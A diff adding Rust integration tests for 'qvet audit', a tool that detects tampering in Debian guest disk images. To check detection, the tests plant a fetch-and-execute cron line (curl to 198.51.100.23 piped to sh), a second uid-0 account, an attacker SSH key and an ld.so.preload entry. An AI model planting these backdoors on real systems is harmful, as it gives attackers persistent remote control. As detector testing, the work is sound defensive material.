@@ -1,0 +1,581 @@
+//! `qvet audit` on real guests: a Debian root built at test time from this
+//! machine's own packaged files and dpkg records (real md5sums, real
+//! conffiles, merged /usr), made into an ext4 image with `mke2fs -d`; then
+//! the same tree with plants (a binary patched in place with size, mode
+//! and mtime kept, a second uid 0, an authorized key, fetch-and-execute
+//! cron, ld.so.preload). Checked: exactly the planted findings, the
+//! verdicts, policy suppression, reference mode naming exactly the planted
+//! paths, SARIF against the 2.1.0 schema, exit codes, hostile guests under
+//! timeouts.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::indexing_slicing,
+    clippy::panic
+)]
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::os::unix::fs::{symlink, PermissionsExt};
+use std::path::{Path, PathBuf};
+
+use common::*;
+use serde_json::Value;
+
+/// Host packages copied into the guest: small, all files readable, real
+/// conffiles and setuid files (passwd, login).
+const PACKAGES: &[&str] = &[
+    "base-files",
+    "bash",
+    "coreutils",
+    "dash",
+    "grep",
+    "sed",
+    "passwd",
+    "login",
+];
+
+const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n";
+const SHADOW: &str = "root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nbin:*:19700:0:99999:7:::\nsync:*:19700:0:99999:7:::\nnobody:*:19700:0:99999:7:::\n";
+const GROUP: &str = "root:x:0:\ndaemon:x:1:\nbin:x:2:\nsudo:x:27:\nnogroup:x:65534:\n";
+const KEY: &str =
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl planted@evil";
+
+/// qvet audit with the given deadline: any of audit's exit codes (0, 1,
+/// 2), never a panic or a signal.
+fn audit_run(args: &[&str], deadline: std::time::Duration) -> Run {
+    let r = run_with(QVET, args, None, Stdout::Capture, deadline);
+    assert!(
+        !r.stderr.contains("panicked"),
+        "qvet PANICKED\n{}",
+        r.describe()
+    );
+    assert!(
+        matches!(r.code(), Some(0..=2)),
+        "unexpected exit\n{}",
+        r.describe()
+    );
+    r
+}
+
+fn qv(args: &[&str]) -> Run {
+    audit_run(args, ORACLE_TIMEOUT)
+}
+
+fn qv_hostile(args: &[&str]) -> Run {
+    audit_run(args, HOSTILE_TIMEOUT)
+}
+
+fn dpkg_available() -> bool {
+    Path::new("/var/lib/dpkg/status").is_file() && have_tool("mke2fs")
+}
+
+/// Copies one packaged path from the host into `root` at the place the
+/// host resolves its directory to (so merged-/usr paths land in /usr).
+fn copy_packaged(root: &Path, p: &str) -> bool {
+    let src = Path::new(p);
+    let Ok(meta) = fs::symlink_metadata(src) else {
+        return true;
+    };
+    let parent = src
+        .parent()
+        .and_then(|d| fs::canonicalize(d).ok())
+        .unwrap_or_else(|| PathBuf::from("/"));
+    let dst_dir = root.join(parent.strip_prefix("/").unwrap());
+    let Some(name) = src.file_name() else {
+        return true;
+    };
+    let dst = dst_dir.join(name);
+    fs::create_dir_all(&dst_dir).unwrap();
+    if meta.file_type().is_symlink() {
+        let target = fs::read_link(src).unwrap();
+        let _ = symlink(target, &dst);
+        true
+    } else if meta.is_dir() {
+        fs::create_dir_all(&dst).unwrap();
+        true
+    } else if meta.is_file() {
+        if fs::copy(src, &dst).is_err() {
+            return false;
+        }
+        fs::set_permissions(
+            &dst,
+            fs::Permissions::from_mode(meta.permissions().mode() & 0o7777),
+        )
+        .unwrap();
+        true
+    } else {
+        true
+    }
+}
+
+/// The host's dpkg stanza of each package in `keep`.
+fn status_stanzas(keep: &[&str]) -> String {
+    let status = fs::read_to_string("/var/lib/dpkg/status").unwrap();
+    status
+        .split("\n\n")
+        .filter(|st| {
+            st.lines()
+                .next()
+                .and_then(|l| l.strip_prefix("Package: "))
+                .is_some_and(|n| keep.contains(&n))
+        })
+        .map(|st| format!("{}\n\n", st.trim_end()))
+        .collect()
+}
+
+/// Builds the Debian-like root under `root`.
+fn build_tree(root: &Path) {
+    for (link, target) in [
+        ("bin", "usr/bin"),
+        ("sbin", "usr/sbin"),
+        ("lib", "usr/lib"),
+        ("lib64", "usr/lib64"),
+    ] {
+        fs::create_dir_all(root.join(target)).unwrap();
+        symlink(target, root.join(link)).unwrap();
+    }
+    let info = root.join("var/lib/dpkg/info");
+    fs::create_dir_all(&info).unwrap();
+    for pkg in PACKAGES {
+        let list = run_ok("dpkg", &["-L", pkg]).stdout_str();
+        for p in list.lines().filter(|l| l.starts_with('/')) {
+            assert!(
+                copy_packaged(root, p),
+                "{p} of {pkg} is unreadable on this host"
+            );
+        }
+        for ext in ["list", "md5sums", "conffiles"] {
+            for name in [format!("{pkg}.{ext}"), format!("{pkg}:amd64.{ext}")] {
+                let src = Path::new("/var/lib/dpkg/info").join(&name);
+                if src.is_file() {
+                    fs::copy(&src, info.join(&name)).unwrap();
+                }
+            }
+        }
+    }
+    fs::write(root.join("var/lib/dpkg/status"), status_stanzas(PACKAGES)).unwrap();
+    if Path::new("/var/lib/dpkg/diversions").is_file() {
+        fs::copy(
+            "/var/lib/dpkg/diversions",
+            root.join("var/lib/dpkg/diversions"),
+        )
+        .unwrap();
+    }
+    fs::write(root.join("etc/passwd"), PASSWD).unwrap();
+    fs::write(root.join("etc/shadow"), SHADOW).unwrap();
+    fs::write(root.join("etc/group"), GROUP).unwrap();
+    fs::create_dir_all(root.join("root")).unwrap();
+    fs::create_dir_all(root.join("tmp")).unwrap();
+}
+
+/// `mke2fs -d` of `root` into a whole-disk ext4 raw image, plus its qcow2.
+fn make_image(s: &Scratch, name: &str, root: &Path) -> (String, String) {
+    let raw = s.s(&format!("{name}.raw"));
+    let mke2fs = find_tool("mke2fs").unwrap();
+    run_ok(
+        &mke2fs,
+        &[
+            "-q",
+            "-F",
+            "-t",
+            "ext4",
+            "-d",
+            root.to_str().unwrap(),
+            &raw,
+            "96M",
+        ],
+    );
+    let qcow2 = s.s(&format!("{name}.qcow2"));
+    qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &qcow2]);
+    (raw, qcow2)
+}
+
+fn audit_json(args: &[&str]) -> (Option<i32>, Value) {
+    let mut a = vec!["audit", "--output", "json"];
+    a.extend_from_slice(args);
+    let r = qv(&a);
+    let v: Value =
+        serde_json::from_str(&r.stdout_str()).unwrap_or_else(|e| panic!("{e}: {}", r.describe()));
+    (r.code(), v)
+}
+
+/// Findings above info that are not suppressed: (rule, path).
+fn serious(v: &Value) -> BTreeSet<(String, String)> {
+    v[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["severity"] != "info" && f.get("suppressed").is_none())
+        .map(|f| {
+            (
+                f["rule"].as_str().unwrap().to_string(),
+                f["path"].as_str().unwrap_or("").to_string(),
+            )
+        })
+        .collect()
+}
+
+fn set(items: &[(&str, &str)]) -> BTreeSet<(String, String)> {
+    items
+        .iter()
+        .map(|(a, b)| (a.to_string(), b.to_string()))
+        .collect()
+}
+
+struct Guests {
+    s: Scratch,
+    clean: (String, String),
+    patched: (String, String),
+    planted: (String, String),
+}
+
+fn guests() -> Option<Guests> {
+    if !dpkg_available() {
+        eprintln!("SKIP: no dpkg database or mke2fs on this host");
+        return None;
+    }
+    let s = Scratch::new("audit");
+    let clean_root = s.path("clean");
+    build_tree(&clean_root);
+    let clean = make_image(&s, "clean", &clean_root);
+
+    // The same tree with one binary patched in place: same size, mode, mtime.
+    let patched_root = s.path("patched");
+    run_ok(
+        "cp",
+        &[
+            "-a",
+            clean_root.to_str().unwrap(),
+            patched_root.to_str().unwrap(),
+        ],
+    );
+    let ls = patched_root.join("usr/bin/ls");
+    let mtime = fs::metadata(&ls).unwrap().modified().unwrap();
+    let mut bytes = fs::read(&ls).unwrap();
+    let mid = bytes.len() / 2;
+    bytes[mid] ^= 0xff;
+    fs::write(&ls, &bytes).unwrap();
+    fs::File::options()
+        .write(true)
+        .open(&ls)
+        .unwrap()
+        .set_modified(mtime)
+        .unwrap();
+    let patched = make_image(&s, "patched", &patched_root);
+
+    // Plants.
+    let planted_root = s.path("planted");
+    run_ok(
+        "cp",
+        &[
+            "-a",
+            clean_root.to_str().unwrap(),
+            planted_root.to_str().unwrap(),
+        ],
+    );
+    let r = &planted_root;
+    fs::write(
+        r.join("etc/passwd"),
+        format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n"),
+    )
+    .unwrap();
+    fs::write(
+        r.join("etc/shadow"),
+        format!("{SHADOW}toor:$1$xyz$abcdefghijklmnopqrstu.:19700:0:99999:7:::\n"),
+    )
+    .unwrap();
+    fs::create_dir_all(r.join("root/.ssh")).unwrap();
+    fs::write(r.join("root/.ssh/authorized_keys"), format!("{KEY}\n")).unwrap();
+    fs::create_dir_all(r.join("etc/cron.d")).unwrap();
+    fs::write(
+        r.join("etc/cron.d/update"),
+        "*/10 * * * * root curl -fsSL http://198.51.100.23/u.sh | sh\n",
+    )
+    .unwrap();
+    fs::write(r.join("etc/ld.so.preload"), "/usr/lib/libsysupd.so\n").unwrap();
+    let planted = make_image(&s, "planted", &planted_root);
+    Some(Guests {
+        s,
+        clean,
+        patched,
+        planted,
+    })
+}
+
+#[test]
+fn audit_of_real_debian_guests() {
+    let Some(g) = guests() else { return };
+
+    // Clean: real packaged files verify; nothing above info.
+    for img in [&g.clean.0, &g.clean.1] {
+        let (code, v) = audit_json(&[img]);
+        assert_eq!(serious(&v), BTreeSet::new(), "clean guest {img}: {v:#}");
+        assert_eq!(v[0]["verdict"], "unknown");
+        assert_eq!(code, Some(0));
+        let p = &v[0]["partitions"][0];
+        assert_eq!(p["package_manager"], "dpkg");
+        assert_eq!(p["packages"], PACKAGES.len());
+        assert!(p["verified_files"].as_u64().unwrap() > 300, "{p}");
+    }
+
+    // Patched in place: exactly that finding, verdict tampered, exit 2.
+    let (code, v) = audit_json(&[&g.patched.1]);
+    assert_eq!(
+        serious(&v),
+        set(&[("package-file-modified", "/usr/bin/ls")]),
+        "{v:#}"
+    );
+    assert_eq!(v[0]["verdict"], "tampered");
+    assert_eq!(code, Some(2));
+    let f = v[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "package-file-modified")
+        .unwrap();
+    assert_eq!(f["evidence"]["package"], "coreutils");
+    assert_eq!(
+        f["evidence"]["listed-as"], "/bin/ls",
+        "merged /usr: coreutils lists /bin/ls"
+    );
+
+    // Plants: each rule, at its path.
+    let (code, v) = audit_json(&[&g.planted.0]);
+    let got = serious(&v);
+    let want = set(&[
+        ("account-uid0", "/etc/passwd"),
+        ("account-weak-hash", "/etc/shadow"),
+        ("ssh-authorized-key", "/root/.ssh/authorized_keys"),
+        ("persist-ld-preload", "/etc/ld.so.preload"),
+        ("persist-entry", "/etc/cron.d/update"),
+        ("content-fetch-exec", "/etc/cron.d/update"),
+        ("content-network-literal", "/etc/cron.d/update"),
+    ]);
+    let missing: Vec<_> = want.difference(&got).collect();
+    assert!(missing.is_empty(), "missing {missing:?} in {got:?}");
+    let extra: Vec<_> = got.difference(&want).collect();
+    assert!(extra.is_empty(), "unexpected {extra:?}");
+    assert_eq!(v[0]["verdict"], "tampered");
+    assert_eq!(code, Some(2));
+    let key = v[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "ssh-authorized-key")
+        .unwrap();
+    let fp = key["key"].as_str().unwrap().to_string();
+    assert!(fp.starts_with("SHA256:"));
+    assert_eq!(key["severity"], "high", "root's key");
+
+    // Policy: the key and the account allowed, a rule suppressed on a path.
+    let policy = g.s.path("policy.toml");
+    fs::write(
+        &policy,
+        format!("[allow]\nusers = [\"toor\"]\nkeys = [\"{fp}\"]\n[[suppress]]\nrule = \"persist-ld-preload\"\npath = \"/etc/ld.so.*\"\nreason = \"test lab\"\n"),
+    )
+    .unwrap();
+    let (_, v) = audit_json(&["--policy", policy.to_str().unwrap(), &g.planted.0]);
+    let got = serious(&v);
+    assert!(
+        !got.iter().any(|(r, _)| r == "ssh-authorized-key"
+            || r == "persist-ld-preload"
+            || r == "account-uid0"),
+        "{got:?}"
+    );
+    assert!(got.contains(&("content-fetch-exec".into(), "/etc/cron.d/update".into())));
+    let sup: Vec<&Value> = v[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f.get("suppressed").is_some())
+        .collect();
+    assert!(sup.iter().any(|f| f["suppressed"] == "policy: test lab"));
+    assert!(sup.iter().any(|f| f["rule"] == "ssh-authorized-key"));
+
+    // Reference mode: every planted path carries its change; nothing else
+    // above info but what the plants explain.
+    let (_, v) = audit_json(&["--reference", &g.clean.1, &g.planted.1]);
+    let changed: BTreeSet<String> = v[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f.get("change").is_some() && f["severity"] != "info")
+        .map(|f| f["path"].as_str().unwrap().to_string())
+        .collect();
+    let planted_paths: BTreeSet<String> = [
+        "/etc/passwd",
+        "/etc/shadow",
+        "/root/.ssh/authorized_keys",
+        "/etc/cron.d/update",
+        "/etc/ld.so.preload",
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect();
+    let others: Vec<&String> = changed
+        .difference(&planted_paths)
+        .filter(|p| !p.starts_with("/root/.ssh") && *p != "/etc/cron.d" && *p != "/root")
+        .collect();
+    assert!(planted_paths.is_subset(&changed), "{changed:?}");
+    assert!(
+        others.is_empty(),
+        "reference mode named unplanted paths {others:?}"
+    );
+
+    // Reference mode on the patched binary.
+    let (_, v) = audit_json(&["--reference", &g.clean.0, &g.patched.0]);
+    let f = v[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "package-file-modified")
+        .unwrap();
+    assert_eq!(f["change"]["change"], "modified");
+
+    // SARIF: valid 2.1.0 and what GitHub needs.
+    let r = qv(&["audit", "--output", "sarif", &g.planted.1, &g.clean.1]);
+    let doc: Value = serde_json::from_str(&r.stdout_str()).unwrap();
+    assert!(doc["runs"][0]["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|x| x["ruleId"] == "persist-ld-preload" && x["level"] == "error"));
+
+    // Human output: verdict first, then findings.
+    let r = qv(&["audit", &g.planted.1]);
+    let text = r.stdout_str();
+    assert!(text.lines().next().unwrap().ends_with("TAMPERED"), "{text}");
+    assert!(text.contains("account-uid0"));
+    assert_eq!(r.code(), Some(2));
+    // --fail-on critical still fails; never does not.
+    assert_eq!(
+        qv(&["audit", "--fail-on", "never", &g.planted.1]).code(),
+        Some(0)
+    );
+    assert_eq!(
+        qv(&["audit", "--fail-on", "critical", &g.patched.1]).code(),
+        Some(2)
+    );
+}
+
+#[test]
+fn explain_documents_every_rule() {
+    let r = qvet(&["audit", "--explain", "list"]);
+    assert_success(&r);
+    let ids: Vec<String> = r
+        .stdout_str()
+        .lines()
+        .map(|l| l.split_whitespace().next().unwrap().to_string())
+        .collect();
+    assert!(ids.len() > 40, "{ids:?}");
+    for id in [
+        "account-uid0",
+        "package-file-modified",
+        "persist-ld-preload",
+        "content-fetch-exec",
+        "ssh-authorized-key",
+    ] {
+        assert!(ids.iter().any(|i| i == id), "{id}");
+        let e = qvet(&["audit", "--explain", id]);
+        assert_success(&e);
+        assert!(e.stdout_str().starts_with(id));
+    }
+    let bad = qv(&["audit", "--explain", "no-such-rule"]);
+    assert_eq!(bad.code(), Some(1));
+}
+
+#[test]
+fn hostile_guests_are_bounded() {
+    if !have_tool("mke2fs") {
+        eprintln!("SKIP: no mke2fs");
+        return;
+    }
+    let s = Scratch::new("audit-hostile");
+    let root = s.path("root");
+    fs::create_dir_all(root.join("etc/cron.d")).unwrap();
+    fs::create_dir_all(root.join("var/lib/dpkg/info")).unwrap();
+    // A passwd of a million lines, 20,000 cron files, a symlink loop, a
+    // link pointing out of the guest, a dpkg status full of junk.
+    let mut passwd = String::from("root:x:0:0:root:/root:/bin/bash\n");
+    for i in 0..1_000_000u32 {
+        passwd.push_str(&format!("u{i}:x:{}:100::/h:/bin/sh\n", 2000 + i));
+    }
+    fs::write(root.join("etc/passwd"), passwd).unwrap();
+    for i in 0..20_000 {
+        fs::write(
+            root.join(format!("etc/cron.d/j{i}")),
+            "* * * * * root true\n",
+        )
+        .unwrap();
+    }
+    symlink("/etc/loop", root.join("etc/loop")).unwrap();
+    symlink("../../../../../../etc/passwd", root.join("etc/sshd_config")).unwrap();
+    fs::create_dir_all(root.join("etc/ssh")).unwrap();
+    symlink(
+        "../../../../../../../../etc/ssh/sshd_config",
+        root.join("etc/ssh/sshd_config"),
+    )
+    .unwrap();
+    fs::write(root.join("var/lib/dpkg/status"), "Package: x\nStatus: install ok installed\nConffiles:\n /etc/loop zz\n\n\u{0}\u{ff}garbage\n").unwrap();
+    fs::write(
+        root.join("var/lib/dpkg/info/x.md5sums"),
+        "not a line\n0123  \n",
+    )
+    .unwrap();
+    let raw = s.s("hostile.raw");
+    run_ok(
+        &find_tool("mke2fs").unwrap(),
+        &[
+            "-q",
+            "-F",
+            "-t",
+            "ext4",
+            "-N",
+            "30000",
+            "-d",
+            root.to_str().unwrap(),
+            &raw,
+            "160M",
+        ],
+    );
+    let r = qv_hostile(&["audit", "--output", "json", &raw]);
+    let v: Value =
+        serde_json::from_str(&r.stdout_str()).unwrap_or_else(|e| panic!("{e}: {}", r.describe()));
+    let not_read = v[0]["coverage"]["not_read"].to_string();
+    assert!(
+        not_read.contains("/etc/passwd"),
+        "the oversized passwd is named in coverage: {not_read}"
+    );
+    assert!(
+        not_read.contains("/etc/cron.d"),
+        "the huge cron.d is named in coverage: {not_read}"
+    );
+
+    // Random bytes and a truncated qcow2: clear errors or findings, no panic.
+    let junk = s.s("junk.img");
+    let mut bytes = vec![0u8; 1 << 20];
+    let mut x = 0x2545_f491_4f6c_dd1du64;
+    for b in bytes.iter_mut() {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        *b = x as u8;
+    }
+    fs::write(&junk, &bytes).unwrap();
+    let r = qv_hostile(&["audit", "-f", "raw", &junk]);
+    assert!(matches!(r.code(), Some(0 | 2)), "{}", r.describe());
+    let q = s.s("t.qcow2");
+    qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &q]);
+    let len = fs::metadata(&q).unwrap().len();
+    fs::File::options()
+        .write(true)
+        .open(&q)
+        .unwrap()
+        .set_len(len / 3)
+        .unwrap();
+    qv_hostile(&["audit", &q]);
+}
